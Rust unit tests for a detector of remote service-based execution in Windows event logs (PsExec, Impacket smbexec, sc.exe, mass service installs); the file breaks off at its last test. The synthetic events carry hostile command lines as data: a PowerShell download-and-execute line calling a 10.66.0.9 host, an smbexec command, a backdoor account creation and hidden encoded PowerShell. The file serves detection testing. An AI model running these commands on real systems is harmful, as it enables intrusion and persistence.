//! Unit tests of the correlations and profiles on hand-built sequences: window edges, logon-id
//! reuse, host-name forms, 7045 without a logon id, several SMB sessions of one run, local use.

use super::Detector;
use super::finding::{Finding, OriginKind, Severity, Stage};
use super::testkit::{ev, store};
use crate::model::{Channel, Event};

const SID: &str = "S-1-5-21-10-20-30-1105";
const IP: &str = "10.9.9.9";

fn scan(profile: &str, events: Vec<Event>) -> Vec<Finding> {
    Detector::builtin(profile)
        .unwrap()
        .scan(&store(events), true)
        .0
}

fn logon(host: &str, ms: i64, id: u64) -> Event {
    ev(host, ms, Channel::Security, 4624)
        .logon(id, 3, IP, "admin", SID)
        .done()
}

fn install_4697(host: &str, ms: i64, id: u64, name: &str, image: &str) -> Event {
    ev(host, ms, Channel::Security, 4697)
        .subject(id, "admin", SID)
        .service(name, image)
        .done()
}

fn install_7045(host: &str, ms: i64, name: &str, image: &str) -> Event {
    ev(host, ms, Channel::System, 7045)
        .service(name, image)
        .user_sid(SID)
        .done()
}

fn scm_child(host: &str, ms: i64, image: &str, cmd: &str, pid: u32) -> Event {
    ev(host, ms, Channel::Sysmon, 1)
        .process(image, cmd, pid, "C:\\Windows\\System32\\services.exe", 600)
        .done()
}

#[test]
fn elastic_window_edges() {
    let inside = vec![
        logon("WS01", 0, 0x1234),
        install_4697("WS01", 60_000, 0x1234, "evil", "C:\\x\\e.exe"),
    ];
    assert_eq!(
        scan("elastic", inside).len(),
        1,
        "59-60 s after the logon is inside maxspan=1m"
    );
    let outside = vec![
        logon("WS01", 0, 0x1234),
        install_4697("WS01", 60_001, 0x1234, "evil", "C:\\x\\e.exe"),
    ];
    assert!(
        scan("elastic", outside).is_empty(),
        "just past 1m is outside"
    );
    let before = vec![
        install_4697("WS01", 0, 0x1234, "evil", "C:\\x\\e.exe"),
        logon("WS01", 1, 0x1234),
    ];
    assert!(
        scan("elastic", before).is_empty(),
        "a sequence needs the logon first"
    );
}

#[test]
fn sigma_window_is_30s_and_7045_cannot_join() {
    let inside = vec![
        logon("WS01", 0, 0x77),
        install_4697("WS01", 30_000, 0x77, "evil", "C:\\e.exe"),
    ];
    assert_eq!(scan("sigma", inside).len(), 1);
    let outside = vec![
        logon("WS01", 0, 0x77),
        install_4697("WS01", 30_001, 0x77, "evil", "C:\\e.exe"),
    ];
    assert!(scan("sigma", outside).is_empty());
    let only_7045 = vec![
        logon("WS01", 0, 0x77),
        install_7045("WS01", 1_000, "evil", "C:\\e.exe"),
    ];
    assert!(
        scan("sigma", only_7045).is_empty(),
        "7045 has no SubjectLogonId"
    );
}

#[test]
fn elastic_exclusions_apply() {
    let psexec = vec![
        logon("WS01", 0, 0x55),
        install_4697("WS01", 1_000, 0x55, "PSEXESVC", "C:\\Windows\\PSEXESVC.EXE"),
    ];
    assert!(
        scan("elastic", psexec.clone()).is_empty(),
        "Elastic excludes ?:\\Windows\\PSEXESVC.EXE"
    );
    assert!(
        !scan("default", psexec).is_empty(),
        "the default profile does not"
    );
    let system = vec![
        logon("WS01", 0, 0x3e7),
        install_4697("WS01", 1_000, 0x3e7, "evil", "C:\\e.exe"),
    ];
    assert!(
        scan("elastic", system).is_empty(),
        "SubjectLogonId 0x3e7 is excluded"
    );
}

#[test]
fn otrf_excludes_machine_accounts_and_has_no_window() {
    let machine = vec![
        ev("WS01", 0, Channel::Security, 4624)
            .logon(0x99, 3, IP, "WS02$", "S-1-5-18")
            .done(),
        install_4697("WS01", 1_000, 0x99, "evil", "C:\\e.exe"),
    ];
    assert!(scan("otrf", machine).is_empty());
    let hours_apart = vec![
        logon("WS01", 0, 0x98),
        install_4697("WS01", 3 * 3_600_000, 0x98, "evil", "C:\\e.exe"),
    ];
    assert_eq!(
        scan("otrf", hours_apart.clone()).len(),
        1,
        "the playbook's join has no time window"
    );
    let d = scan("default", hours_apart);
    assert!(
        d.iter()
            .all(|f| !f.stages.iter().any(|s| s.stage == Stage::Logon)),
        "default does not link a logon hours earlier (logon-id reuse)"
    );
}

#[test]
fn host_name_forms_meet() {
    let evs = vec![
        logon("ws01.corp.local", 0, 0x42),
        install_4697("WS01", 500, 0x42, "evil", "C:\\e.exe"),
    ];
    let f = scan("elastic", evs);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].target_key, "WS01");
}

#[test]
fn default_links_7045_through_installer_sid_as_weaker() {
    let evs = vec![
        logon("WS01", 0, 0x500),
        install_7045("WS01", 2_000, "evil", "C:\\Windows\\evil.exe"),
    ];
    let f = scan("default", evs);
    let logon = f[0]
        .stages
        .iter()
        .find(|s| s.stage == Stage::Logon)
        .expect("logon linked");
    assert!(logon.link.contains("installer SID"), "{}", logon.link);
    assert_eq!(f[0].origin.kind, OriginKind::Remote);
}

#[test]
fn several_smb_sessions_of_one_run_are_one_finding() {
    let evs = vec![
        logon("WS01", 0, 0xA1),
        ev("WS01", 5, Channel::Security, 5145)
            .subject(0xA1, "admin", SID)
            .share("\\\\*\\ADMIN$", "PSEXESVC.exe", "%%4417", IP)
            .done(),
        logon("WS01", 15, 0xB2),
        ev("WS01", 18, Channel::Security, 5145)
            .subject(0xB2, "admin", SID)
            .share("\\\\*\\IPC$", "svcctl", "%%4417", IP)
            .done(),
        install_4697("WS01", 20, 0xB2, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        scm_child(
            "WS01",
            40,
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            700,
        ),
    ];
    let f = scan("default", evs);
    assert_eq!(
        f.len(),
        1,
        "{:#?}",
        f.iter().map(|f| &f.stages).collect::<Vec<_>>()
    );
    let ids: Vec<String> = f[0].logon_ids.iter().map(ToString::to_string).collect();
    assert_eq!(ids, vec!["0xa1", "0xb2"]);
    assert!(f[0].severity >= Severity::High);
}

#[test]
fn sentinel_service_to_process_window_edges() {
    let mk = |ms: i64| {
        vec![
            logon("WS01", 0, 0x61),
            install_4697("WS01", 1_000, 0x61, "evil", "%COMSPEC% /c whoami"),
            scm_child(
                "WS01",
                1_000 + ms,
                "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c whoami",
                800,
            ),
        ]
    };
    assert_eq!(
        scan("sentinel", mk(10_000)).len(),
        1,
        "process 10 s after the service is inside"
    );
    assert!(
        scan("sentinel", mk(10_001)).is_empty(),
        "just past 10 s is outside"
    );
}

#[test]
fn process_linked_by_parent_image_regardless_of_window() {
    let evs = vec![
        logon("WS01", 0, 0x71),
        install_4697("WS01", 1_000, 0x71, "svcx", "C:\\Windows\\svcx.exe"),
        scm_child(
            "WS01",
            1_100,
            "C:\\Windows\\svcx.exe",
            "C:\\Windows\\svcx.exe",
            900,
        ),
        ev("WS01", 1_800_000, Channel::Sysmon, 1)
            .process(
                "C:\\Windows\\System32\\cmd.exe",
                "cmd /c net user",
                901,
                "C:\\Windows\\svcx.exe",
                900,
            )
            .done(),
    ];
    let f = scan("default", evs);
    let late = f[0]
        .stages
        .iter()
        .find(|s| s.summary.contains("net user"))
        .expect("child linked 30 min later");
    assert_eq!(late.link, "child of the service binary");
}

#[test]
fn tool_on_source_links_within_30s() {
    let mk = |ms: i64| {
        vec![
            ev("ADMIN01", 0, Channel::Sysmon, 1)
                .process(
                    "C:\\Tools\\PsExec.exe",
                    "PsExec.exe \\\\ws01.corp.local -s cmd",
                    100,
                    "C:\\Windows\\explorer.exe",
                    50,
                )
                .done(),
            install_7045("WS01", ms, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        ]
    };
    let f = scan("default", mk(30_000));
    assert!(
        f[0].stages.iter().any(|s| s.stage == Stage::Source),
        "30 s after the tool run is inside"
    );
    assert_eq!(f[0].source_hosts, vec!["ADMIN01".to_string()]);
    let f = scan("default", mk(30_001 + 2_000));
    let install = f
        .iter()
        .find(|f| f.stages.iter().any(|s| s.stage == Stage::Install))
        .expect("the install's finding");
    assert!(
        !install.stages.iter().any(|s| s.stage == Stage::Source),
        "past 30 s is outside"
    );
    // The run no chain of the (logged) target linked is still raised, as when the target's
    // logs are missing: more logs of the target never hide it.
    let run = f
        .iter()
        .find(|f| f.stages.iter().any(|s| s.stage == Stage::Source))
        .unwrap_or_else(|| panic!("the unlinked run: {f:#?}"));
    assert_eq!(run.target_key, "WS01");
    assert!(
        run.origin
            .reasons
            .iter()
            .any(|r| r.contains("nothing in them links to this run")),
        "{:?}",
        run.origin
    );
}

#[test]
fn local_client_on_the_target_is_capped_below_medium() {
    let evs = vec![
        ev("WS01", 0, Channel::Sysmon, 1)
            .process(
                "C:\\Tools\\PsExec64.exe",
                "PsExec64.exe -s cmd",
                100,
                "C:\\Windows\\explorer.exe",
                50,
            )
            .done(),
        install_7045("WS01", 300, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        scm_child(
            "WS01",
            400,
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            700,
        ),
    ];
    let f = scan("default", evs);
    assert_eq!(f[0].origin.kind, OriginKind::Local);
    assert!(f[0].severity < Severity::Medium);
    assert!(f[0].score_breakdown.iter().any(|p| p.name == "origin"));
}

#[test]
fn allowlist_suppresses_but_keeps_the_finding() {
    // A product's service installed by the system itself: the name entry suppresses it.
    let local = vec![
        ev("WS01", 1_000, Channel::System, 7045)
            .service(
                "SplunkForwarder",
                "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe\" service",
            )
            .user_sid(SID)
            .done(),
    ];
    let f = scan("default", local);
    assert_eq!(f.len(), 1);
    let s = f[0].suppressed_by.as_ref().expect("suppressed");
    assert!(s.reason.contains("Sentinel"), "{s:?}");
    // The same name installed from another address: a name-only entry never hides a remote
    // install; the finding says which entry matched and why it stays.
    let remote = vec![
        logon("WS01", 0, 0x81),
        install_4697(
            "WS01",
            1_000,
            0x81,
            "SplunkForwarder",
            "C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe",
        ),
    ];
    let f = scan("default", remote);
    assert_eq!(f.len(), 1);
    assert!(!f[0].is_suppressed());
    let why = f[0]
        .score_breakdown
        .iter()
        .find(|p| p.name == "allowlist")
        .expect("the outranked entry is named");
    assert!(why.why.contains("remote client"), "{}", why.why);
}

#[test]
fn defender_update_drivers_are_allow_listed_by_name_folder_and_driver_type() {
    let defender = "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\\
                    {974FB328-EA38-4C43-B298-8157FD612F07}\\MpKslfbbd78dc.sys";
    let driver = "kernel mode driver";
    let cases = [
        (defender.to_string(), "MpKslfbbd78dc", driver, true),
        (format!("\\??\\{defender}"), "MpKslfbbd78dc", driver, true),
        // German and Japanese logs word the type in their language.
        (
            defender.to_string(),
            "MpKslfbbd78dc",
            "Kernelmodustreiber",
            true,
        ),
        (
            defender.to_string(),
            "MpKslfbbd78dc",
            "カーネル モード ドライバー",
            true,
        ),
        // The name anywhere else, another file in that folder, another name, another type, or
        // a path that only passes through the folder: not covered.
        (
            defender.replace("ProgramData", "Users\\Public"),
            "MpKslfbbd78dc",
            driver,
            false,
        ),
        (
            format!("\\\\10.0.0.5\\c$\\{}", &defender[3..]),
            "MpKslfbbd78dc",
            driver,
            false,
        ),
        (
            defender.replace(".sys", ".exe"),
            "MpKslfbbd78dc",
            driver,
            false,
        ),
        (defender.to_string(), "Updater", driver, false),
        (
            defender.to_string(),
            "MpKslfbbd78dc",
            "user mode service",
            false,
        ),
        (
            defender.replace("MpKslfbbd78dc.sys", "..\\..\\..\\evil\\MpKslfbbd78dc.sys"),
            "MpKslfbbd78dc",
            driver,
            false,
        ),
    ];
    for (image, name, kind, covered) in &cases {
        let mut e = ev("WS01", 1_000, Channel::System, 7045)
            .service(name, image)
            .user_sid(SID)
            .done();
        e.fields.service.service_type = Some((*kind).into());
        let f = scan("default", vec![e]);
        assert_eq!(f.len(), 1, "{image} {name} {kind}");
        let hidden = f[0].is_suppressed();
        assert_eq!(hidden, *covered, "{image} {name} {kind}: {f:#?}");
    }
}

#[test]
fn score_breakdown_adds_up() {
    let evs = vec![
        logon("WS01", 0, 0x91),
        install_4697(
            "WS01",
            1_000,
            0x91,
            "PSEXESVC",
            "%SystemRoot%\\PSEXESVC.exe",
        ),
    ];
    for f in scan("default", evs) {
        let sum: i64 = f.score_breakdown.iter().map(|p| p.points).sum();
        assert_eq!(sum, f.score);
    }
}

#[test]
fn partial_collections_still_yield_findings() {
    // Only the System log's state change of a tool service.
    let mut e = ev("WS01", 0, Channel::System, 7036).done();
    e.fields.service.name = Some("PSEXESVC".into());
    e.fields.service.state = Some("running".into());
    let f = scan("default", vec![e]);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].service_label(), "PSEXESVC");
    assert!(f[0].missing_stages.contains(&Stage::Install));
    // Only the helper written by the SMB server.
    let mut w = ev("WS01", 0, Channel::Sysmon, 11).done();
    w.fields.process.image = Some("System".into());
    w.fields.process.pid = Some(4);
    w.fields.share.file_path = Some("C:\\Windows\\PSEXESVC.exe".into());
    let f = scan("default", vec![w.clone()]);
    assert_eq!(f.len(), 1, "a known helper written over SMB is enough");
    assert_eq!(f[0].origin.kind, OriginKind::Remote);
    // Any other executable written over SMB is not, on its own.
    w.fields.share.file_path = Some("C:\\Windows\\update.exe".into());
    assert!(scan("default", vec![w]).is_empty());
}

#[test]
fn weak_links_are_bounded_to_the_nearest() {
    // An account that logs on 200 times in the minute before a 7045 (a busy server, or a log
    // flooded on purpose): the chain keeps the nearest few, not all, and the nearest is the
    // logon right before the install.
    let mut evs: Vec<Event> = (0u32..200)
        .map(|i| logon("SRV01", i64::from(i) * 250, 0x5000 + u64::from(i)))
        .collect();
    evs.push(install_7045(
        "SRV01",
        200 * 250,
        "updsvc",
        "C:\\Windows\\updsvc.exe",
    ));
    let f = scan("default", evs);
    assert_eq!(f.len(), 1);
    let logons: Vec<_> = f[0]
        .stages
        .iter()
        .filter(|s| s.stage == Stage::Logon)
        .collect();
    assert!(
        !logons.is_empty() && logons.len() <= 2 * super::link::MAX_WEAK_LINKS,
        "{} logon links",
        logons.len()
    );
    let last = logons.iter().map(|s| s.time).max().unwrap();
    assert_eq!(
        last,
        super::testkit::t0() + chrono::TimeDelta::milliseconds(199 * 250)
    );
}

fn service_check(ms: i64, id: u64, user: &str) -> Vec<Event> {
    vec![
        ev("SRV01", ms, Channel::Security, 4624)
            .logon(id, 3, IP, user, SID)
            .done(),
        ev("SRV01", ms + 5, Channel::Security, 5145)
            .subject(id, user, SID)
            .share("\\\\*\\IPC$", "svcctl", "%%4417", IP)
            .done(),
    ]
}

#[test]
fn a_long_run_of_service_checks_lists_the_first_sessions_and_the_latest() {
    let day = 24 * 3_600_000;
    let n = super::engine::chain::ROUTINE_SESSIONS_LISTED + 3;
    let mut evs = Vec::new();
    for k in 0..n {
        let id = 0xC0 + u64::try_from(k).unwrap();
        evs.extend(service_check(i64::try_from(k).unwrap() * day, id, "admin"));
    }
    let f = scan("default", evs);
    assert_eq!(f.len(), 1, "one finding for the whole run");
    let f = &f[0];
    assert_eq!(
        f.logon_ids.len(),
        n,
        "every session's logon id stays for pivots"
    );
    assert_eq!(
        f.stages.len(),
        2 * (super::engine::chain::ROUTINE_SESSIONS_LISTED + 1),
        "logon and pipe of the first sessions and the latest"
    );
    let last_day = super::testkit::t0()
        + chrono::TimeDelta::milliseconds(i64::try_from(n - 1).unwrap() * day + 5);
    assert_eq!(f.last_seen, last_day, "the latest session is listed");
    assert_eq!(f.first_seen, super::testkit::t0());
    assert!(
        f.origin
            .reasons
            .iter()
            .any(|r| r.starts_with(&format!("{n} separate sessions")) && r.contains("the latest")),
        "{:?}",
        f.origin.reasons
    );
}

#[test]
fn repeated_service_checks_from_one_source_and_account_are_one_finding() {
    let hour = 3_600_000;
    let check = service_check;
    let mut evs = Vec::new();
    for (n, id) in [0xC1_u64, 0xC2, 0xC3].into_iter().enumerate() {
        evs.extend(check(i64::try_from(n).unwrap() * 24 * hour, id, "admin"));
    }
    // The same kind of access by another account stays its own finding.
    evs.extend(check(2 * hour, 0xD1, "helpdesk"));
    let f = scan("default", evs);
    assert_eq!(
        f.len(),
        2,
        "{:#?}",
        f.iter().map(|f| &f.user).collect::<Vec<_>>()
    );
    let admin = f
        .iter()
        .find(|f| f.user.as_deref() == Some("CORP\\admin"))
        .expect("admin's checks");
    let ids: Vec<String> = admin.logon_ids.iter().map(ToString::to_string).collect();
    assert_eq!(ids, vec!["0xc1", "0xc2", "0xc3"]);
    assert!(
        admin
            .origin
            .reasons
            .iter()
            .any(|r| r.starts_with("3 separate sessions")),
        "{:?}",
        admin.origin.reasons
    );
    assert!(admin.severity < Severity::Medium);
    let other = f
        .iter()
        .find(|f| f.user.as_deref() == Some("CORP\\helpdesk"));
    assert_eq!(other.map(|f| f.logon_ids.len()), Some(1));
}

#[test]
fn suppressed_findings_beyond_the_per_host_cap_are_counted_not_kept() {
    // Defender's update driver, installed 3 times on one host and once on another: the default
    // allow-list suppresses all four; keeping one a host keeps the top one of each host.
    let mpksl = |host: &str, ms: i64, n: u32| {
        ev(host, ms, Channel::System, 7045)
            .service(
                &format!("MpKsl{n:08x}"),
                &format!(
                    "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{{974FB328-EA38-4C43-B298-8157FD612F0{n}}}\\MpKsl{n:08x}.sys"
                ),
            )
            .user_sid("S-1-5-18")
            .done()
    };
    let events = vec![
        mpksl("WS01", 0, 1),
        mpksl("WS01", 60_000, 2),
        mpksl("WS01", 120_000, 3),
        mpksl("WS02", 0, 4),
    ];
    let det = Detector::builtin("default").unwrap();
    let s = store(events);
    let (all, dropped) = det.scan(&s, true);
    assert_eq!((all.len(), dropped), (4, 0));
    assert!(all.iter().all(Finding::is_suppressed));
    let (capped, dropped) = det.scan_keeping(&s, 1);
    assert_eq!((capped.len(), dropped), (2, 2));
    let hosts: Vec<&str> = capped.iter().map(|f| f.target_key.as_str()).collect();
    assert!(
        hosts.contains(&"WS01") && hosts.contains(&"WS02"),
        "{hosts:?}"
    );
    let (none, dropped) = det.scan(&s, false);
    assert_eq!((none.len(), dropped), (0, 4));
}

#[test]
fn a_value_copied_from_a_finding_never_covers_another_hosts_attack() {
    // An attacker names a service `PSEXESVC*`; an analyst allow-lists that finding's service
    // name. The entry must not suppress `PSEXESVC-backdoor` elsewhere, as a glob would.
    use super::allowlist::{AllowEntry, AllowField, AllowSpec, Allowlist};
    let install = |host: &str, name: &str| {
        ev(host, 0, Channel::System, 7045)
            .service(name, "C:\\Tools\\svc.exe")
            .user_sid(SID)
            .done()
    };
    let findings = scan(
        "default",
        vec![
            install("WS01", "PSEXESVC*"),
            install("WS02", "PSEXESVC-backdoor"),
        ],
    );
    assert_eq!(findings.len(), 2);
    let spec = |literal| AllowSpec {
        field: AllowField::ServiceName,
        pattern: "PSEXESVC*".into(),
        reason: "r".into(),
        literal,
        and: Vec::new(),
    };
    let covered = |literal| {
        let list = Allowlist {
            entries: vec![AllowEntry::new(spec(literal), "case").unwrap()],
        };
        let mut f = findings.clone();
        list.apply(&mut f);
        let mut hosts: Vec<String> = f
            .iter()
            .filter(|x| x.is_suppressed())
            .map(|x| x.target_key.clone())
            .collect();
        hosts.sort();
        hosts
    };
    assert_eq!(covered(true), ["WS01"], "exactly the value");
    assert_eq!(covered(false), ["WS01", "WS02"], "a typed glob still works");
}

#[test]
fn a_logon_id_shared_by_thousands_of_logons_gives_bounded_findings() {
    // 1,000 network logons and 50 installs on one logon id (an attacker can write them): each
    // finding lists at most 64 events of a stage and counts the rest, so the findings' size
    // does not grow with the product of the two.
    let mut events: Vec<Event> = (0..1000).map(|k| logon("WS01", k * 10, 0x77)).collect();
    for k in 0..50 {
        events.push(install_4697(
            "WS01",
            10_000 + k * 100,
            0x77,
            &format!("svc{k}"),
            "C:\\Windows\\Temp\\x.exe",
        ));
    }
    let findings = scan("default", events);
    assert!(!findings.is_empty());
    let stages: usize = findings.iter().map(|f| f.stages.len()).sum();
    assert!(
        findings.iter().all(|f| f.stages.len() <= 7 * 64),
        "a finding lists at most 64 events a stage"
    );
    assert!(stages <= findings.len() * 7 * 64, "{stages} stages");
    assert!(
        findings.iter().any(|f| f.stages_omitted > 0),
        "what is not listed is counted"
    );
}

/// Impacket smbexec (examples/smbexec.py `execute_remote`) as the target's Sysmon 1 alone logs it.
const SMBEXEC_CMD: &str = "C:\\Windows\\system32\\cmd.exe /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat";

#[test]
fn one_fingerprint_event_is_a_medium_finding() {
    let f = scan(
        "default",
        vec![scm_child(
            "WS05",
            0,
            "C:\\Windows\\System32\\cmd.exe",
            SMBEXEC_CMD,
            4410,
        )],
    );
    assert_eq!(f.len(), 1, "{f:#?}");
    let f = &f[0];
    assert!(f.target_key.eq_ignore_ascii_case("ws05"));
    assert!(f.severity >= Severity::Medium, "{:?}", f.score_breakdown);
    assert!(
        f.tools.iter().any(|t| t == "Impacket smbexec"),
        "{:?}",
        f.tools
    );
    assert!(f.stages.iter().any(|s| s.stage == Stage::Exec));
    let why = f
        .score_breakdown
        .iter()
        .find(|p| p.name == "fingerprint")
        .map(|p| p.why.clone())
        .unwrap_or_default();
    assert!(why.contains("smbexec.py"), "cites the source: {why}");
    assert!(f.score <= 100);
}

#[test]
fn an_admins_own_echo_is_no_finding() {
    let f = scan(
        "default",
        vec![scm_child(
            "WS05",
            0,
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c echo %date% > C:\\ProgramData\\backup\\last.txt",
            4410,
        )],
    );
    assert!(f.iter().all(|f| f.severity < Severity::Medium), "{f:#?}");
}

#[test]
fn legacy_4688_parent_resolved_by_creator_pid() {
    // Windows 2008-era 4688: NewProcessName and the creator's id only. services.exe (pid 0x260)
    // is known as the creator of svchost.exe.
    let svchost = ev("SRV08", -600_000, Channel::Security, 4688)
        .process("C:\\Windows\\System32\\svchost.exe", "", 0x300, "", 0x260)
        .done();
    let child = ev("SRV08", 2_000, Channel::Security, 4688)
        .process("C:\\Windows\\System32\\cmd.exe", "", 0x900, "", 0x260)
        .done();
    // The same image from another creator (a user's shell) is not the service's.
    let stranger = ev("SRV08", 2_500, Channel::Security, 4688)
        .process("C:\\Windows\\System32\\cmd.exe", "", 0x901, "", 0x777)
        .done();
    let events = vec![
        logon("SRV08", 0, 0x55),
        install_4697(
            "SRV08",
            1_000,
            0x55,
            "updsvc",
            "%COMSPEC% /c net user backdoor P4ss /add",
        ),
        svchost,
        child,
        stranger,
    ];
    let f = scan("default", events);
    let f = f
        .iter()
        .find(|f| f.target_key.eq_ignore_ascii_case("srv08"))
        .unwrap();
    let exec: Vec<_> = f.stages.iter().filter(|s| s.stage == Stage::Exec).collect();
    assert_eq!(exec.len(), 1, "{:#?}", f.stages);
    assert!(exec[0].link.contains("inferred"), "{:#?}", f.stages);
    assert!(
        f.score_breakdown.iter().any(|p| p.name == "inferred"),
        "{:?}",
        f.score_breakdown
    );
}

#[test]
fn own_address_traffic_does_not_make_a_remote_install_local() {
    // A remote logon, then the server's own (link-local) traffic around the install.
    let own = ev("DC01", 500, Channel::Sysmon, 3).done();
    let mut own = own;
    own.fields.net.src_ip = Some("fe80::1".into());
    own.fields.net.src_host = Some("DC01".into());
    own.fields.net.dst_ip = Some("fe80::1".into());
    own.fields.net.dst_port = Some(445);
    let own_logon = ev("DC01", 1_500, Channel::Security, 4624)
        .logon(0x77, 3, "fe80::1", "admin", SID)
        .done();
    let base = vec![
        logon("DC01", 0, 0x66),
        install_4697("DC01", 1_000, 0x66, "remotesvc", "C:\\Windows\\r.exe"),
    ];
    let alone = scan("default", base.clone());
    let mut more = base;
    more.push(own);
    more.push(own_logon);
    let with_more = scan("default", more);
    let sev = |f: &[Finding]| f.iter().map(|f| f.severity).max();
    assert!(sev(&with_more) >= sev(&alone), "{alone:#?} {with_more:#?}");
    assert!(
        with_more
            .iter()
            .any(|f| f.origin.kind == OriginKind::Remote),
        "{with_more:#?}"
    );
}

/// A Tchopper-style mass deployment: 40 services from one account within minutes, the payload
/// split across their display names as base64, rebuilt in install order.
#[test]
fn a_mass_deployment_is_one_finding_with_its_decoded_payload() {
    use base64::Engine as _;
    let payload = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.66.0.9/stage2.ps1'); Invoke-Stage2 -Mode lateral -Targets all";
    let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
    let mut events = vec![logon("FS02", 0, 0x88)];
    for (k, chunk) in b64.as_bytes().chunks(8).enumerate() {
        let name = String::from_utf8_lossy(chunk).into_owned();
        let ms = 1_000 + i64::try_from(k).unwrap() * 3_000;
        events.push(install_4697("FS02", ms, 0x88, &name, "%COMSPEC% /c exit"));
    }
    let n = events.len() - 1;
    assert!(n >= 20);
    let f = scan("default", events);
    let visible: Vec<&Finding> = f.iter().filter(|f| !f.is_suppressed()).collect();
    assert_eq!(
        visible.len(),
        1,
        "one finding per campaign: {:#?}",
        visible
            .iter()
            .map(|f| (&f.id, f.service_label()))
            .collect::<Vec<_>>()
    );
    let c = visible[0].campaign.as_ref().unwrap_or_else(|| {
        panic!(
            "{} services {:?}",
            visible[0].services.len(),
            visible[0].score_breakdown
        )
    });
    assert_eq!(c.count, n);
    assert!(
        c.pattern
            .as_deref()
            .unwrap_or("")
            .contains("DownloadString"),
        "{c:?}"
    );
    assert!(visible[0].severity >= Severity::Medium);
    assert!(
        visible[0].score <= 100
            || visible[0]
                .score_breakdown
                .iter()
                .any(|p| p.name == "campaign")
    );
}

#[test]
fn a_products_mass_install_is_one_low_finding() {
    // 30 services of one product by the deployment account: grouped, named, not raised.
    let mut events = vec![logon("APP01", 0, 0x99)];
    for k in 0..30 {
        events.push(install_4697(
            "APP01",
            1_000 + k * 2_000,
            0x99,
            &format!("AcmeAgent{k:02}"),
            &format!("C:\\Program Files\\Acme\\agent{k:02}.exe"),
        ));
    }
    let f = scan("default", events);
    let visible: Vec<&Finding> = f.iter().filter(|f| !f.is_suppressed()).collect();
    assert!(visible.len() <= 1, "{}", visible.len());
    // Installed from another address, the Program Files entry (a path the attacker chooses)
    // does not hide it; the campaign adds nothing for names with a shared stem.
    for f in &visible {
        assert!(f.severity <= Severity::Medium, "{:?}", f.score_breakdown);
        if let Some(c) = &f.campaign {
            assert_eq!(c.pattern, None);
        }
        assert!(f.score_breakdown.iter().any(|p| p.name == "allowlist"));
    }
}

#[test]
fn start_timeouts_of_random_names_are_one_finding() {
    let names = [
        "xKdLmQpZ", "RtUfWbNa", "pLoKiJuH", "ZxCvBnMa", "QwErTyUi", "AsDfGhJk", "MnBvCxZa",
        "PoIuYtRe", "LkJhGfDs", "VbNmQwEr", "TgByHnUj", "IkOlPzXc",
    ];
    let mut events = Vec::new();
    for (k, n) in names.iter().enumerate() {
        let mut e = ev(
            "WS09",
            i64::try_from(k).unwrap() * 5_000,
            Channel::System,
            7009,
        )
        .done();
        e.fields.service.name = Some((*n).into());
        events.push(e);
    }
    let f = scan("default", events.clone());
    assert_eq!(f.len(), 1, "{f:#?}");
    let c = f[0].campaign.as_ref().unwrap();
    assert_eq!(c.count, names.len());
    assert!(
        f[0].severity >= Severity::Medium,
        "{:?}",
        f[0].score_breakdown
    );
    // A few time-outs of a real service are not a campaign.
    let few: Vec<Event> = events.into_iter().take(3).collect();
    assert!(scan("default", few).is_empty());
}

#[test]
fn a_tool_run_seen_only_on_the_source_is_a_finding_on_its_target() {
    let run = ev("ADMIN02", 0, Channel::Sysmon, 1)
        .process(
            "C:\\Windows\\System32\\sc.exe",
            "sc.exe \\\\LAB07 create updsvc binPath= \"cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA\"",
            5120,
            "C:\\Windows\\System32\\cmd.exe",
            4100,
        )
        .done();
    let mut smb = ev("ADMIN02", 400, Channel::Sysmon, 3).done();
    smb.fields.net.initiated = Some(true);
    smb.fields.net.dst_port = Some(445);
    smb.fields.net.dst_ip = Some("10.1.7.7".into());
    smb.fields.net.dst_host = Some("LAB07.corp.local".into());
    let f = scan("default", vec![run.clone(), smb]);
    let f = f
        .iter()
        .find(|f| f.target_key.eq_ignore_ascii_case("lab07"))
        .unwrap_or_else(|| panic!("{f:#?}"));
    assert_eq!(f.source_hosts, vec!["ADMIN02".to_string()]);
    assert!(
        f.origin.reasons.iter().any(|r| r.contains("source only")),
        "{:?}",
        f.origin
    );
    assert_eq!(f.services[0].name.as_deref(), Some("updsvc"));
    assert_eq!(
        f.stages.iter().filter(|s| s.stage == Stage::Source).count(),
        2
    );
    // With the target's own logs present, the target's finding links the run instead.
    let on_target = vec![
        run,
        ev("LAB07", 1_000, Channel::Security, 4624)
            .logon(0x31, 3, "10.1.2.2", "admin", SID)
            .done(),
        install_4697(
            "LAB07",
            1_500,
            0x31,
            "updsvc",
            "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA",
        ),
    ];
    let f = scan("default", on_target);
    assert_eq!(
        f.iter()
            .filter(|f| f.target_key.eq_ignore_ascii_case("lab07"))
            .count(),
        1,
        "{f:#?}"
    );
}

fn image_path_write(host: &str, ms: i64, key: &str, value: &str) -> Event {
    let mut e = ev(host, ms, Channel::Sysmon, 13)
        .process("C:\\Windows\\system32\\services.exe", "", 640, "", 500)
        .done();
    e.fields.registry.event_type = Some("SetValue".into());
    e.fields.registry.target_object =
        Some(format!("HKLM\\System\\CurrentControlSet\\Services\\{key}\\ImagePath").into());
    e.fields.registry.details = Some(value.into());
    e
}

/// `SCShell` / `sc \\host config X binPath=`: an existing service's path changed, the service
/// started, the path put back, after a remote logon.
#[test]
fn a_service_modification_is_a_chain_with_a_modify_stage() {
